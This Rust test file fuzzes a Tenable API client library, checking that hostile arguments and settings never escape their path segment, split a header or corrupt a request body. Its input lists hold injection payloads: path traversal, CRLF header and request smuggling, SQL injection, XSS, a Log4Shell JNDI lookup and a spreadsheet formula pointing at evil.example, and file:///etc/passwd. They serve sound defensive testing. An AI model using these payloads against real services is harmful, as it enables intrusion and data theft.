//! Hostile input, in every place of every operation and of the settings: no id leaves its segment of the path, no header is split, no
//! body is anything but the JSON of what was given, and nothing panics.

use std::borrow::Cow;
use std::sync::{Arc, Mutex};

use async_trait::async_trait;
use bytes::Bytes;
use http::{Request, Response};
use serde_json::{Map, Value, json};
use tenable_api::identity_exposure::{self, IdentityExposure};
use tenable_api::security_center::{self, SecurityCenter};
use tenable_api::vulnerability_management::{self, VulnerabilityManagement};
use tenable_api::{BuildError, Location, Parameter, ParameterKind, UntypedOperation};
use tenable_transport::{ProxySettings, SharedTransport, TlsSettings, Transport, TransportError};

use crate::record::Record;

/// Text that means something to some reader on the way.
const HOSTILE: &[&str] = &[
    "",
    " ",
    ".",
    "..",
    "../users",
    "../../api/users/1",
    "1/../2",
    "1/roles",
    "1//2",
    "/",
    "\\..\\",
    "%",
    "%2e%2e",
    "%2f..%2f",
    "%252e%252e%252f",
    "1?x=1",
    "1&admin=true",
    "1=2",
    "a+b",
    "1#fragment",
    "1;type=a",
    "http://evil.example/",
    "//evil.example/",
    "@evil.example",
    "a\r\nX-Injected: 1",
    "a\nX-Injected: 1",
    "a\r\n\r\nGET /api/users/2 HTTP/1.1\r\nhost: x\r\n\r\n",
    "a\0b",
    "\u{7f}",
    "\u{85}\u{2028}",
    "e\u{301}",
    "\u{202e}gnp.exe",
    "\u{feff}",
    "\u{ff0e}\u{ff0e}\u{ff0f}",
    "\u{10ffff}",
    "😀",
    "\"",
    "\\",
    "\"},{\"admin\":true,\"x\":{\"",
    "<script>alert(1)</script>",
    "=HYPERLINK(\"http://evil.example\")",
    "' OR 1=1 --",
    "${jndi:ldap://evil.example}",
    "{{7*7}}",
    "-1",
    "1e999",
    "18446744073709551616",
    "null",
    "a,b",
    "a@b@c",
    "\"a b\"@example.com",
    "a@example.com\r\nBcc: x@example.com",
];

/// What stands for a number.
fn hostile_numbers() -> Vec<Value> {
    vec![
        json!(-1),
        json!(0),
        json!(i64::MIN),
        json!(i64::MAX),
        json!(u64::MAX),
        json!(1.5),
        json!(1e300),
        json!(null),
        json!([1]),
        json!({"id": 1}),
    ]
}

fn operations() -> impl Iterator<Item = &'static UntypedOperation> {
    [identity_exposure::OPERATIONS, security_center::OPERATIONS, vulnerability_management::OPERATIONS]
        .into_iter()
        .flatten()
}

/// Texts of which each parameter takes one, ids being numbers or UUIDs in some places.
const TEXTS: [&str; 3] = ["plain", "0f8fad5b-d9cb-469f-a165-70867728950e", "7"];

/// A value that the parameter takes, with this text for texts. Lists and objects hold what is required in them.
fn plain(parameter: &Parameter, text: &str) -> Value {
    match parameter.values.first() {
        Some(first) if matches!(parameter.kind, ParameterKind::Text) => json!(first),
        _ => of_kind(&parameter.kind, text),
    }
}

fn of_kind(kind: &ParameterKind, text: &str) -> Value {
    match kind {
        ParameterKind::Text => json!(text),
        ParameterKind::Integer | ParameterKind::Id => json!(1),
        ParameterKind::Boolean => json!(true),
        ParameterKind::List(kind) => json!([of_kind(kind, text)]),
        ParameterKind::Object(fields) => fields
            .iter()
            .filter(|field| field.required)
            .map(|field| (field.name.to_owned(), plain(field, text)))
            .collect(),
        ParameterKind::Json => json!({}),
        _ => unreachable!("a kind of parameter that this test does not know"),
    }
}

/// Arguments with which the operation makes a request: what it requires, and secrets or all there is where that does not do.
fn arguments(operation: &UntypedOperation) -> Option<Map<String, Value>> {
    let wanted: [fn(&Parameter) -> bool; 3] =
        [|parameter| parameter.required, |parameter| parameter.required || parameter.secret, |_| true];
    let candidates = wanted.into_iter().flat_map(|wanted| TEXTS.map(|text| (wanted, text)));
    let candidates = candidates.map(|(wanted, text)| -> Map<String, Value> {
        let parameters = operation.meta().parameters.iter().filter(|parameter| wanted(parameter));
        parameters.map(|parameter| (parameter.name.to_owned(), plain(parameter, text))).collect()
    });
    candidates.into_iter().find(|arguments| operation.request(Value::Object(arguments.clone())).is_ok())
}

/// Puts a value where the parameter takes text or a number, in lists and objects as well.
fn placements(parameter: &Parameter, value: &Value) -> Vec<Value> {
    fn inside(kind: &ParameterKind, value: &Value) -> Vec<Value> {
        match kind {
            ParameterKind::List(kind) => inside(kind, value).into_iter().map(|item| json!([item])).collect(),
            ParameterKind::Object(fields) => {
                let with = |field: &Parameter, item: Value| {
                    let mut object = of_kind(&ParameterKind::Object(fields), "plain");
                    object[field.name] = item;
                    object
                };
                fields
                    .iter()
                    .flat_map(|field| inside(&field.kind, value).into_iter().map(move |item| with(field, item)))
                    .collect()
            }
            _ => vec![value.clone()],
        }
    }
    inside(&parameter.kind, value)
}

/// What a server reads in a segment or a value.
fn decoded(text: &str) -> String {
    let mut bytes = text.bytes();
    let digit = |bytes: &mut std::str::Bytes<'_>| char::from(bytes.next()?).to_digit(16);
    let mut read = Vec::new();
    while let Some(byte) = bytes.next() {
        let pair = (byte == b'%').then(|| Some(digit(&mut bytes)? * 16 + digit(&mut bytes)?));
        read.push(pair.map_or(byte, |pair| pair.and_then(|pair| u8::try_from(pair).ok()).expect("two digits")));
    }
    String::from_utf8(read).expect("text")
}

/// Checks that the request is of its operation, whatever the arguments.
fn judge(operation: &UntypedOperation, arguments: &Value, request: &Request<Bytes>) {
    let meta = operation.meta();
    let context = || format!("{} {arguments} {}", meta.id, request.uri());
    let target = request.uri().to_string();
    assert!(target.starts_with('/') && !target.starts_with("//"), "{}", context());
    assert!(target.bytes().all(|byte| byte.is_ascii_graphic()), "{}", context());
    assert_eq!(request.method(), meta.method, "{}", context());

    let (template, segments): (Vec<_>, Vec<_>) =
        (meta.path.split('/').collect(), request.uri().path().split('/').collect());
    assert_eq!(template.len(), segments.len(), "{}", context());
    for (wanted, found) in template.iter().zip(&segments) {
        let Some(name) = wanted.strip_prefix('{').and_then(|rest| rest.strip_suffix('}')) else {
            assert_eq!(wanted, found, "{}", context());
            continue;
        };
        let decoded = decoded(found);
        // A server that decodes before it looks at dots and slashes finds none that lead elsewhere.
        assert!(!matches!(decoded.as_str(), "" | "." | ".."), "{}", context());
        match &arguments[name] {
            Value::String(text) => assert_eq!(decoded.as_str(), text, "{}", context()),
            Value::Number(number) if !number.is_f64() => assert_eq!(decoded, number.to_string(), "{}", context()),
            _ => {}
        }
    }

    let names: Vec<&str> = meta.parameters.iter().map(|parameter| parameter.name).collect();
    for pair in request.uri().query().unwrap_or_default().split('&').filter(|pair| !pair.is_empty()) {
        let (name, value) = pair.split_once('=').unwrap_or((pair, ""));
        assert!(names.contains(&name), "{name} came from nowhere: {}", context());
        let decoded = decoded(value);
        if let Some(Value::String(text)) = arguments.get(name) {
            assert_eq!(decoded.as_str(), text, "{}", context());
        }
        assert!(!value.contains(['#', '+', '\'', '"', '<', '>']), "{}", context());
    }

    for (name, value) in request.headers() {
        assert!(["accept", "content-type"].contains(&name.as_str()), "{name}: {}", context());
        assert_eq!(value, "application/json", "{}", context());
    }
    if !request.body().is_empty() {
        let body: Value =
            serde_json::from_slice(request.body()).unwrap_or_else(|error| panic!("{error}: {}", context()));
        assert!(body.is_object() || body.is_array(), "{}", context());
        assert!(body.get("admin").is_none() && !request.body().contains(&b'\n'), "{}", context());
    }
}

#[test]
fn no_argument_leaves_its_place() {
    let (mut places, mut sent, mut refused, mut tried) = ([0_usize; 3], 0_usize, 0_usize, 0_usize);
    let values: Vec<Value> = HOSTILE.iter().map(|text| json!(text)).chain(hostile_numbers()).collect();
    for operation in operations() {
        let base = arguments(operation).unwrap_or_else(|| panic!("{} takes no plain arguments", operation.meta().id));
        judge(operation, &Value::Object(base.clone()), &operation.request(Value::Object(base.clone())).unwrap());
        tried += 1;
        for parameter in operation.meta().parameters {
            let place = match parameter.location {
                Location::Path => 0,
                Location::Query => 1,
                _ => 2,
            };
            places[place] += 1;
            for value in values.iter().flat_map(|value| placements(parameter, value)) {
                let mut arguments = base.clone();
                arguments.insert(parameter.name.to_owned(), value);
                let arguments = Value::Object(arguments);
                match operation.request(arguments.clone()) {
                    Ok(request) => {
                        judge(operation, &arguments, &request);
                        sent += 1;
                    }
                    Err(error) => {
                        assert!(!error.outcome_unknown(), "{error}");
                        assert!(!error.to_string().contains(['\r', '\0']), "{error:?}");
                        refused += 1;
                    }
                }
            }
        }
    }
    assert!(places.iter().all(|count| *count > 0) && sent > refused / 10, "{places:?} {sent} {refused}");
    Record::new("input-operations")
        .title("Hostile values in every argument of every operation")
        .columns(["Operations", "In the path", "In the query", "In the body", "Requests made", "Refused before sending", "Left their place"])
        .row([&tried, &places[0], &places[1], &places[2], &sent, &refused, &0])
        .note(&format!(
            "{} texts and {} other values in each argument, inside lists and objects too: dots, slashes, escapes of escapes, line ends, \
             zeros, quotes, formulas, numbers out of range.",
            HOSTILE.len(),
            hostile_numbers().len()
        ))
        .write();
}

/// Keeps what is sent, and answers nothing of use.
#[derive(Clone, Debug, Default)]
struct Wire(Arc<Mutex<Vec<Request<Bytes>>>>);

#[async_trait]
impl Transport for Wire {
    async fn send(&self, request: Request<Bytes>) -> Result<Response<Bytes>, TransportError> {
        self.0.lock().unwrap().push(request);
        Ok(Response::builder().status(404).body(Bytes::new()).unwrap())
    }
}

/// What a setting came to.
#[derive(Default)]
struct Outcomes {
    refused: usize,
    sent: usize,
}

impl Outcomes {
    /// Counts a client that was built, once it has sent a request, or was refused.
    async fn count<C>(&mut self, built: Result<C, BuildError>, wire: &Wire, send: impl AsyncFnOnce(C)) {
        match built {
            Err(error) => {
                assert!(!error.to_string().contains(['\r', '\0']), "{error:?}");
                self.refused += 1;
            }
            Ok(client) => {
                send(client).await;
                for request in wire.0.lock().unwrap().drain(..) {
                    assert!(request.uri().to_string().starts_with("https://tenable.example/"), "{}", request.uri());
                    for name in request.headers().keys() {
                        assert_eq!(request.headers().get_all(name).iter().count(), 1, "{name}");
                        assert!(!name.as_str().contains("injected"), "{name}");
                    }
                    for value in request.headers().values() {
                        assert!(!value.as_bytes().iter().any(|byte| matches!(byte, b'\r' | b'\n' | 0)), "{value:?}");
                    }
                    self.sent += 1;
                }
            }
        }
    }
}

const URL: &str = "https://tenable.example";

#[tokio::test(start_paused = true)]
async fn no_setting_splits_a_header_or_leads_elsewhere() {
    let wire = Wire::default();
    let shared = || SharedTransport::new(wire.clone());
    let exposure = || IdentityExposure::builder().url(URL).transport(shared());
    let center = || SecurityCenter::builder().url(URL).transport(shared());
    let management = || VulnerabilityManagement::builder().url(URL).transport(shared());
    let (mut agents, mut keys, mut names) = (Outcomes::default(), Outcomes::default(), Outcomes::default());
    for text in HOSTILE {
        let ask = async |client: IdentityExposure| drop(client.users().list().send().await);
        agents.count(exposure().api_key("key").user_agent(*text).build(), &wire, ask).await;
        keys.count(exposure().api_key(*text).build(), &wire, ask).await;
        let ask = async |client: SecurityCenter| drop(client.users().list().send().await);
        keys.count(center().api_key(*text, "secret").build(), &wire, ask).await;
        keys.count(center().api_key("access", *text).build(), &wire, ask).await;
        names.count(center().login(*text, *text).build(), &wire, ask).await;
        let ask = async |client: VulnerabilityManagement| drop(client.users().list().send().await);
        keys.count(management().api_key(*text, "secret").build(), &wire, ask).await;
        keys.count(management().api_key("access", *text).build(), &wire, ask).await;
    }
    assert!([&agents, &keys, &names].iter().all(|outcomes| outcomes.sent > 0), "nothing was sent");
    assert!(agents.refused > 0 && keys.refused > 0);

    // Addresses: what is taken leads to the host that it names, as a browser would read it.
    let mut addresses = (0, 0);
    for address in [
        "",
        " ",
        "tenable.example",
        "/",
        "//tenable.example",
        "https://",
        "https:///api",
        "https://:443",
        "https://tenable.example:0x1",
        "https://tenable.example:99999",
        "https://a b",
        "https://tenable.example\r\nhost: evil.example",
        "https://tenable.example\0",
        "https://user:password@tenable.example",
        "https://tenable.example@evil.example",
        "https://tenable.example#@evil.example",
        "https://tenable.example?x=1",
        "https://tenable.example\\@evil.example",
        "file:///etc/passwd",
        "javascript:alert(1)",
        "ftp://x",
        "http://tenable.example",
        "https://[::1",
        "https://[fe80::1%25eth0]",
        "https://tenable.example/..;/admin",
        "https://%74enable",
        "https://tenable.example/%0d%0ax",
        "https://xn--",
        "HTTPS://TENABLE.EXAMPLE",
        "https://tenable.example/",
    ] {
        let built = IdentityExposure::builder().url(address).api_key("key").transport(shared()).build();
        match built {
            Err(error) => {
                assert!(!error.to_string().contains("password"), "{error}");
                addresses.1 += 1;
            }
            Ok(client) => {
                drop(client.users().list().send().await);
                for request in wire.0.lock().unwrap().drain(..) {
                    let host = request.uri().host().unwrap_or_default().to_ascii_lowercase();
                    assert!(
                        !host.contains("evil") && !request.uri().to_string().contains('@'),
                        "{address}: {}",
                        request.uri()
                    );
                }
                addresses.0 += 1;
            }
        }
    }
    assert!(addresses.0 > 0 && addresses.1 > 10, "{addresses:?}");
    Record::new("input-settings")
        .title("Hostile values in the settings of a client")
        .columns(["Setting", "Refused when built", "Sent, nothing split or added"])
        .row([&"user agent", &agents.refused, &agents.sent])
        .row([&"keys", &keys.refused, &keys.sent])
        .row([&"user name and password", &names.refused, &names.sent])
        .row([&"address", &addresses.1, &addresses.0])
        .write();
}

#[tokio::test]
async fn broken_certificates_and_proxies_are_refused_in_words() {
    const PEM: &str = "-----BEGIN CERTIFICATE-----\n";
    let end = "-----END CERTIFICATE-----\n";
    let files: Vec<Cow<'_, [u8]>> = vec![
        b"".into(),
        b"\0\0\0\0".into(),
        b"not a certificate".into(),
        b"\xff\xfe\x00-".into(),
        PEM.as_bytes().into(),
        format!("{PEM}{end}").into_bytes().into(),
        format!("{PEM}AAAA\n{end}").into_bytes().into(),
        format!("{PEM}!!!!\n{end}").into_bytes().into(),
        format!("{PEM}{}\n{end}", "A".repeat(1_000_000)).into_bytes().into(),
        PEM.repeat(10_000).into_bytes().into(),
        b"-----BEGIN PRIVATE KEY-----\nAAAA\n-----END PRIVATE KEY-----\n".to_vec().into(),
        vec![b'-'; 1_000_000].into(),
    ];
    let builder = || IdentityExposure::builder().url(URL).api_key("key");
    for file in &files {
        let error = builder().tls(TlsSettings::only(file.to_vec())).build().expect_err("no certificate");
        assert!(error.to_string().len() < 1_000, "{}", error.to_string().len());
        let pair = TlsSettings::platform()
            .client_certificate(file.to_vec(), String::from_utf8_lossy(file).into_owned().into());
        builder().tls(pair).build().expect_err("no pair");
    }
    let mut proxies = (0, 0);
    for text in HOSTILE.iter().copied().chain([
        "http://",
        "http://:0",
        "http://proxy:99999",
        "socks9://proxy",
        "http://user:sentinel@proxy\r\nx: 1",
        "file:///etc/passwd",
        "http://proxy/path?query",
        "http://[::1",
        "http://user:sentinel@:1",
    ]) {
        match builder().proxy(ProxySettings::explicit(text)).build() {
            Ok(client) => {
                assert!(!format!("{client:?}").contains("sentinel"));
                proxies.0 += 1;
            }
            Err(error) => {
                assert!(
                    !error.to_string().contains("sentinel") && !error.to_string().contains(['\r', '\0']),
                    "{error:?}"
                );
                proxies.1 += 1;
            }
        }
        // What the environment says is not a reason to panic either.
        drop(builder().proxy(ProxySettings::from_variables([("HTTPS_PROXY", text), ("NO_PROXY", text)])).build());
    }
    assert!(proxies.1 > 30, "{proxies:?}");
    Record::new("input-files")
        .title("Broken certificate files and proxies")
        .columns(["What", "Tried", "Refused in words", "Taken as it is"])
        .row([&"authorities", &files.len(), &files.len(), &0])
        .row([&"client certificates with their keys", &files.len(), &files.len(), &0])
        .row([&"proxies", &(proxies.0 + proxies.1), &proxies.1, &proxies.0])
        .write();
}
